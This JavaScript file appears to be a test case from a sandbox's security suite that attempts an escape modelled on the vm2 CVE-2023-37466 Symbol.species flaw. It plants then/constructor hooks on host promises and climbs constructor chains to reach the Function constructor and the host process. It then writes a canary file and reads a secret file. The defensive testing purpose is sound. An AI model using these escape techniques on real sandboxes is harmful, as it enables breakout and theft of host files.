// attack: thenables and promises on both sides of the membrane: thenables, promises and async iterables as capability arguments (must never be called), own `then`/`constructor` planted on the promises capabilities return (they are not frozen) so `.then()` and `await` call guest code with engine functions, Promise.resolve on them, awaiting thenables that return capability promises
// source: vm2 ATTACKS.md Category 7; CVE-2023-37466 (vm2 Symbol.species on host promises, GHSA-cchq-frgv-rjh5); Endo eventual-send/HandledPromise docs (thenables are not passable)
// needs: fs
// category: escape
// expect: blocked - arguments are copied as plain data (functions refused, `then` never called); whatever the engine hands to planted hooks is tamed
const ID = '111-thenable-capability-promises';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
let thenCalls = 0;
const thenable = { then(r) { thenCalls++; values.push(['arg thenable resolve', r]); r('data.txt'); } };
for (const [label, call] of [
  ['path = thenable', () => fs.readFile(thenable, 'utf8')],
  ['path = promise', () => fs.readFile(Promise.resolve('data.txt'), 'utf8')],
  ['path = capability promise', () => fs.readFile(fs.readFile('data.txt', 'utf8'))],
  ['options = thenable', () => fs.readFile('data.txt', { encoding: 'utf8', then: thenable.then })],
  ['data = async iterable', () => fs.writeFile('out/t.txt', { [Symbol.asyncIterator]: async function* () { thenCalls++; yield 'x'; } })],
  ['data = thenable', () => fs.writeFile('out/t.txt', thenable)],
]) { try { await call(); note(label + ': accepted'); } catch (e) { values.push([label + ' error', e]); note(label + ': ' + msg(e)); } }
note('guest thenables called by the host: ' + thenCalls);
// the promise a capability returns: host-made, but is it frozen?
const p = fs.readFile('data.txt', 'utf8');
values.push(['capability promise', p]);
note('capability promise frozen: ' + Object.isFrozen(p));
try {
  Object.defineProperty(p, 'then', { value(res, rej) { values.push(['planted then this', this], ['planted then res', res], ['planted then rej', rej]); return Promise.prototype.then.call(this, res, rej); } });
  note('planted own then on a capability promise');
} catch (e) { note('plant then: ' + msg(e)); }
try {
  p.constructor = { [Symbol.species]: function Fake(executor) { values.push(['species executor', executor]); return new Promise(executor); } };
  note('planted constructor/species');
} catch (e) { note('plant constructor: ' + msg(e)); }
try { await p; } catch (e) { note('await planted: ' + msg(e)); }
try { await Promise.resolve(p); } catch (e) {}
try { await p.then((x) => x); } catch (e) { note('p.then with species: ' + msg(e)); }
try { await p.finally(() => {}); } catch (e) { note('finally: ' + msg(e)); }
const nested = { then(r) { values.push(['nested then resolve', r]); r(fs.stat('data.txt')); } };
try { values.push(['awaited nested thenable', await nested]); } catch (e) {}
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold };
